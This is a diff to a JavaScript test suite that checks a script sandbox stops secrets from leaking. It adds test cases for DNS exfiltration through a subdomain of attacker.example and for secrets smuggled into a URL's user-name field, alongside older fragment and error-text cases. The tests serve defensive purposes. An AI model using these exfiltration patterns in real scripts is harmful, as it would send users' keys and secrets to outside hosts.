@@ -256,6 +256,8 @@ describe('secret destinations in script runs', () => {
       'base64 round trip': 'return {"x": base64.decode(base64.encode(k))}',
       'error text': 'fail("boom " + k)',
       'send it to the URL fragment': `http.get("${bound.url}/#" + p)\n    return {}`,
+      'DNS exfiltration': 'http.get("http://" + k + ".attacker.example/")\n    return {}',
+      'as the user name': `http.get("http://" + k + "@127.0.0.1:${other.port}/")\n    return {}`,
     };
     const before = bound.requests.length + other.requests.length;
     for (const [what, body] of Object.entries(attacks)) {
@@ -264,7 +266,9 @@ describe('secret destinations in script runs', () => {
       const res = await run(name);
       expect(res.success, what).toBe(false);
       expect(leaks(JSON.stringify(res)), what).toEqual([]);
-      if (what !== 'error text') {
+      if (what === 'as the user name') {
+        expect(res.error, what).toMatch(/URLs with embedded credentials are not allowed/);
+      } else if (what !== 'error text') {
         expect(res.error, what).toMatch(/secrets? (API_KEY|PHRASE|UNI)/);
       }
     }
